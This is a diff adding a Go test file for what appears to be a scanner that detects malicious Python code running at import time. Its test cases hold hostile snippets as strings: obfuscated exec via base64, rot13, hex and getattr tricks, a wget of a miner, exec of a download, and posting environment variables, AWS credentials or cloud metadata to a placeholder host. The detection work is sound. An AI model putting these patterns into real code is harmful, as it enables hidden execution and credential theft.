@@ -1,0 +1,159 @@
+package pycode
+
+import (
+	"strings"
+	"testing"
+)
+
+// kinds returns "kind@line" for findings at import (or "kind@line(fn)"
+// for the rest), in order.
+func kinds(fs []Finding) string {
+	var out []string
+	for _, f := range fs {
+		s := f.Kind + "@" + itoa(f.Line)
+		if !f.AtImport {
+			s += "(fn)"
+		}
+		out = append(out, s)
+	}
+	return strings.Join(out, " ")
+}
+
+func itoa(i int) string {
+	const digits = "0123456789"
+	if i < 10 {
+		return digits[i : i+1]
+	}
+	return itoa(i/10) + digits[i%10:i%10+1]
+}
+
+func TestWhatRunsAtImport(t *testing.T) {
+	for _, tt := range []struct {
+		name, src, want string
+	}{
+		{"decoded exec at module level", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "obfuscated-exec@2"},
+		{"class body runs at import", "import zlib\nclass Config:\n    exec(zlib.decompress(b'x\\x9c'))\n", "obfuscated-exec@3"},
+		{"decorator runs at import", "import subprocess\n@register(subprocess.check_output(['id']))\ndef f():\n    pass\n", "spawn@2"},
+		{"default argument runs at import", "import os\ndef f(x=os.system('id')):\n    pass\n", "spawn@2"},
+		{"function called at module level", "import subprocess\ndef _go():\n    subprocess.Popen(['/tmp/x'])\n_go()\n", "spawn@3"},
+		{"called two levels deep", "import os\ndef a():\n    b()\ndef b():\n    os.system('x')\na()\n", "spawn@5"},
+		{"function never called", "import subprocess\ndef build():\n    subprocess.run(['make'])\n", ""},
+		{"main guard", "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\nelse:\n    pass\n", ""},
+		{"else of main guard runs", "import subprocess\nif __name__ == \"__main__\":\n    pass\nelse:\n    subprocess.run(['x'])\n", "spawn@5"},
+		{"lambda body", "import os\nf = lambda: os.system('x')\n", ""},
+		{
+			"multi-line signature closing at column 0 (pytest, pluggy)",
+			"import subprocess\n\ndef run(\n    args,\n    *,\n    timeout=None,\n) -> int:\n    result = subprocess.run(\n        args,\n    )\n    return result.returncode\n",
+			"",
+		},
+		{
+			"call after a multi-line string inside a function",
+			"import subprocess\n\ndef f():\n    doc = '''\nnot code\n'''\n    subprocess.run(['x'])\n",
+			"",
+		},
+		{"exec of a literal", "exec('x = 1')\n", ""},
+		{"one environment key", "import os, requests\nhome = os.environ.get('HOME')\nrequests.get('https://pypi.org')\n", ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := kinds(atImport(Analyze([]byte(tt.src)))); got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func atImport(fs []Finding) []Finding {
+	var out []Finding
+	for _, f := range fs {
+		if f.AtImport {
+			out = append(out, f)
+		}
+	}
+	return out
+}
+
+func TestObfuscations(t *testing.T) {
+	for _, tt := range []struct {
+		name, src, want string
+	}{
+		{"getattr with a concatenated name", "getattr(__builtins__, 'ex' + 'ec')(payload)\n", "obfuscated-exec@1"},
+		{"reversed name", "import builtins\ngetattr(builtins, 'cexe'[::-1])(payload)\n", "obfuscated-exec@2"},
+		{"globals lookup", "globals()['__builtins__']['exec'](payload)\n", "obfuscated-exec@1"},
+		{"vars of builtins", "import builtins\nvars(builtins)['ev' 'al'](payload)\n", "obfuscated-exec@2"},
+		{"chr join", "getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))(p)\n", "obfuscated-exec@1"},
+		{"chr generator", "f = getattr(__builtins__, ''.join(chr(c) for c in [101, 120, 101, 99]))\nf(p)\n", "obfuscated-exec@2"},
+		{"rot13 name", "import codecs, builtins\ngetattr(builtins, codecs.decode('rkrp', 'rot13'))(p)\n", "obfuscated-exec@2"},
+		{"rot13 payload", "import codecs\nexec(codecs.decode('cevag(1)', 'rot_13'))\n", "obfuscated-exec@2"},
+		{"hex payload", "exec(bytes.fromhex('7072696e74283129').decode())\n", "obfuscated-exec@1"},
+		{"__import__ with a computed module", "__import__('o' + 's').system('id')\n", "spawn@1"},
+		{"importlib", "import importlib\nimportlib.import_module('subpro' + 'cess').Popen(['sh'])\n", "spawn@2"},
+		{"alias chain", "import subprocess as sp\nrun = sp.Popen\nrun(['x'])\n", "spawn@3"},
+		{"star import", "from subprocess import *\nPopen(['x'])\n", "spawn@2"},
+		{"from-import alias", "from os import system as s\ns('id')\n", "spawn@2"},
+		{"base64-decoded module name", "import base64\n__import__(base64.b64decode('b3M=').decode()).system('x')\n", "spawn@2"},
+		{
+			"payload split over lines",
+			"import base64\npayload = (\n    'cHJpbnQo'\n    'MSk='\n)\ndata = base64.b64decode(\n    payload\n)\nexec(\n    data\n)\n",
+			"obfuscated-exec@9",
+		},
+		{"pickle of decoded data", "import pickle, base64\npickle.loads(base64.b64decode(B))\n", "obfuscated-exec@2"},
+		{"exec of a download", "import urllib.request\nexec(urllib.request.urlopen('http://x/s').read())\n", "download-exec@2"},
+		{"wget started", "import subprocess\nsubprocess.Popen(['wget', 'http://x/miner', '-O', '/tmp/m'])\n", "download-exec@2"},
+		{"download then run", "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n", "download-exec@3"},
+		{"environment posted", "import os, requests\nrequests.post('http://x', json=dict(os.environ))\n", "env-exfiltration@2"},
+		{"environment through a name", "import os, requests\nenv = os.environ.copy()\nrequests.post('http://x', data=str(env))\n", "env-exfiltration@3"},
+		{"cloud credentials sent", "import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://x', data=creds)\n", "env-exfiltration@2"},
+		{"metadata endpoint", "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/')\n", "env-exfiltration@2"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := kinds(atImport(Analyze([]byte(tt.src)))); got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFindingsInsideFunctions(t *testing.T) {
+	// Decoded exec inside a function nobody calls at import is still worth
+	// a look, marked as such; a process started there is not.
+	src := "import base64, subprocess\ndef later():\n    exec(base64.b64decode(P))\n    subprocess.run(['x'])\n"
+	if got := kinds(Analyze([]byte(src))); got != "obfuscated-exec@3(fn)" {
+		t.Errorf("got %q", got)
+	}
+}
+
+func TestEvidenceHasLineAndContext(t *testing.T) {
+	src := "import base64\n\n\nclass Config:\n    x = 1\n    exec(base64.b64decode(P))\n    y = 2\n"
+	fs := Analyze([]byte(src))
+	if len(fs) != 1 {
+		t.Fatalf("findings: %+v", fs)
+	}
+	f := fs[0]
+	want := "     4| class Config:\n     5|     x = 1\n>    6|     exec(base64.b64decode(P))\n     7|     y = 2\n     8| "
+	if f.Line != 6 || f.Code != want {
+		t.Errorf("line %d, code:\n%s\nwant:\n%s", f.Line, f.Code, want)
+	}
+	if !strings.Contains(f.Message, "when the module is imported") {
+		t.Errorf("message: %s", f.Message)
+	}
+}
+
+func TestBrokenSourceStillAnalysed(t *testing.T) {
+	src := "import os\ndef broken(:\n    pass\nos.system('id')\n"
+	if got := kinds(atImport(Analyze([]byte(src)))); got != "spawn@4" {
+		t.Errorf("got %q", got)
+	}
+}
+
+func FuzzAnalyze(f *testing.F) {
+	f.Add([]byte("import os\nos.system('x')\n"))
+	f.Add([]byte("getattr(__builtins__, 'ex' + 'ec')(''.join(map(chr, [1, 2])))[::-1]\n"))
+	f.Add([]byte("exec(codecs.decode('x', 'rot13'))\nclass A:\n  def f(x=eval(b64decode('')))->None: ..."))
+	f.Fuzz(func(t *testing.T, src []byte) {
+		for _, fd := range Analyze(src) {
+			if fd.Line < 1 || fd.Kind == "" {
+				t.Fatalf("bad finding %+v", fd)
+			}
+		}
+	})
+}
